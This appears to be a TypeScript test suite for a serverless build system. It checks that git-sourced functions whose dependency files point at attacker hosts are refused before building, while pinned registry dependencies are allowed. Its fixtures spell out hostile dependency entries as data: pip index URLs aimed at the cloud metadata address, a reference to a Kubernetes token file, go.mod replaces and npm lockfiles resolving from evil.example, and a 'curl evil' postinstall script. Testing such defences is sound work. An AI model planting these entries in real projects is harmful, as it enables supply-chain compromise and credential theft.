// The dependency policy on git sources: repositories on a real git server whose function directory carries a
// dependency file that would fetch from or run what an attacker chooses are refused (injection) after the
// fetch and before any build context exists; ordinary dependency files pass.
import { mkdtempSync, readdirSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

import type { LambdaFunctionSpec, RuntimeSpec } from '../src/api';
import { createSourceModule } from '../src/sources';
import { type SourceModule, SourceError } from '../src/sources/types';

import { type GitServer, createRepo, startGitServer } from './support/git-server';

const PY: RuntimeSpec = { language: 'python', version: '3.11', handler: 'main.handler' };
const NODE: RuntimeSpec = { language: 'nodejs', version: '20', handler: 'index.handler' };
const GO: RuntimeSpec = { language: 'go', version: '1.22', handler: 'main.Handle' };
const CODE = {
  'main.py': 'def handler(e):\n  return e\n',
  'index.js': 'exports.handler = async (e) => e;\n',
  'main.go': 'package main\n',
};

const lockfile = (resolved: string) =>
  JSON.stringify({
    lockfileVersion: 3,
    packages: { '': { name: 'fn' }, 'node_modules/x': { version: '1.0.0', resolved } },
  });

const HOSTILE: Array<[string, RuntimeSpec, Record<string, string>, RegExp]> = [
  [
    'pip --index-url to the metadata service',
    PY,
    { 'requirements.txt': '--index-url http://169.254.169.254/simple\nrequests\n' },
    /requirements\.txt: pip options such as "--index-url"/,
  ],
  [
    'pip --extra-index-url',
    PY,
    { 'requirements.txt': 'requests==2.32.3\n--extra-index-url https://evil.example/simple\n' },
    /--extra-index-url/,
  ],
  [
    'pip direct reference to a local file',
    PY,
    { 'requirements.txt': 'pkg @ file:///var/run/secrets/kubernetes.io/serviceaccount/token\n' },
    /requirements\.txt: "pkg @ file/,
  ],
  ['pip URL dependency', PY, { 'requirements.txt': 'https://evil.example/pkg-1.0.tar.gz\n' }, /requirements\.txt/],
  ['pip nested requirements file', PY, { 'requirements.txt': '-r other.txt\n', 'other.txt': 'requests\n' }, /"-r"/],
  [
    'go.mod replace to another host',
    GO,
    { 'go.mod': 'module fn\n\ngo 1.22\n\nreplace example.com/x => evil.example/x v1.0.0\n' },
    /go\.mod: go\.mod "replace"/,
  ],
  ['go.mod replace to a local path', GO, { 'go.mod': 'module fn\nreplace example.com/x => ../../x\n' }, /replace/],
  [
    'npm git dependency',
    NODE,
    { 'package.json': JSON.stringify({ dependencies: { x: 'git+https://evil.example/x.git' } }) },
    /package\.json: "x" must have a registry version range/,
  ],
  [
    'npm URL dependency',
    NODE,
    { 'package.json': JSON.stringify({ dependencies: { x: 'http://169.254.169.254/x.tgz' } }) },
    /registry version range/,
  ],
  [
    'npm file dependency',
    NODE,
    { 'package.json': JSON.stringify({ dependencies: { x: 'file:../../etc' } }) },
    /registry version range/,
  ],
  [
    'npm install script',
    NODE,
    { 'package.json': JSON.stringify({ scripts: { postinstall: 'curl evil' } }) },
    /"postinstall" script/,
  ],
  ['npm workspaces', NODE, { 'package.json': JSON.stringify({ workspaces: ['pkgs/*'] }) }, /workspaces/],
  [
    '.npmrc pointing at another registry',
    NODE,
    { '.npmrc': 'registry=http://169.254.169.254/\n', 'package.json': '{}' },
    /"\.npmrc" is not allowed/,
  ],
  [
    'lockfile resolving from another host',
    NODE,
    { 'package.json': '{}', 'package-lock.json': lockfile('http://evil.example/x-1.0.0.tgz') },
    /package-lock\.json: "node_modules\/x" is not resolved from https:\/\/registry\.npmjs\.org/,
  ],
  [
    'lockfile resolving to git',
    NODE,
    { 'package.json': '{}', 'package-lock.json': lockfile('git+ssh://git@evil.example/x.git#abc') },
    /not resolved/,
  ],
];

const PASSING: Array<[string, RuntimeSpec, Record<string, string>]> = [
  ['pinned requirements', PY, { 'requirements.txt': '# pinned\nrequests==2.32.3\n' }],
  [
    'registry package.json and lockfile',
    NODE,
    {
      'package.json': JSON.stringify({ dependencies: { lodash: '^4.17.21' } }),
      'package-lock.json': lockfile('https://registry.npmjs.org/x/-/x-1.0.0.tgz'),
    },
  ],
  ['go.mod without requirements', GO, { 'go.mod': 'module fn\n\ngo 1.22\n' }],
];

let server: GitServer;
let scratch: string;
let sources: SourceModule;
const repoName = (title: string) => title.toLowerCase().replace(/[^a-z0-9]+/g, '-');
const spec = (title: string, runtime: RuntimeSpec): LambdaFunctionSpec => ({
  source: { git: { url: `${server.url}/${repoName(title)}.git`, path: 'fn' } },
  runtime,
});
const fetchFiles = (title: string, runtime: RuntimeSpec) =>
  sources.prepareBuildContext(spec(title, runtime), { fn: { namespace: 'default', name: 'fn' } });

beforeAll(async () => {
  const repos = mkdtempSync(path.join(os.tmpdir(), 'dependency-repos-'));
  scratch = mkdtempSync(path.join(os.tmpdir(), 'dependency-scratch-'));
  for (const [title, , files] of [...HOSTILE, ...PASSING]) {
    const content = Object.fromEntries(Object.entries({ ...CODE, ...files }).map(([f, c]) => [`fn/${f}`, c]));
    createRepo(repos, repoName(title), { files: content });
  }
  server = await startGitServer(repos);
  sources = createSourceModule({
    policy: { allowList: ['127.0.0.1'] },
    tmpDir: scratch,
    scratchLimitBytes: 16 * 1024 * 1024,
    maxConcurrentFetches: 4,
  });
});

afterAll(async () => {
  await server?.close();
});

test.each(HOSTILE)('a git repository with %s is refused as injection', async (title, runtime, _files, message) => {
  const error = await fetchFiles(title, runtime).then(
    () => undefined,
    (e: unknown) => e
  );
  expect(error).toBeInstanceOf(SourceError);
  expect((error as SourceError).errorType).toBe('injection');
  expect((error as SourceError).reason).toMatch(message);
  expect(readdirSync(scratch)).toEqual([]);
});

test.each(PASSING)('a git repository with %s passes', async (title, runtime, files) => {
  const fetched = await fetchFiles(title, runtime);
  for (const name of Object.keys(files)) {
    expect(fetched.files[name]).toBeDefined();
  }
});
